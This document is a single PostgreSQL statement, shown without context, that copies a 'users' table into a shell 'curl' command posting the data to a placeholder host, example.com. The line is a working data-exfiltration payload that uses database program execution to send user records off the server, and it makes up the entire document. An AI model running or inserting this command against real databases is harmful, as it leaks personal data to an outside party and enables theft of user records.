COPY users TO PROGRAM 'curl -d @- http://example.com';
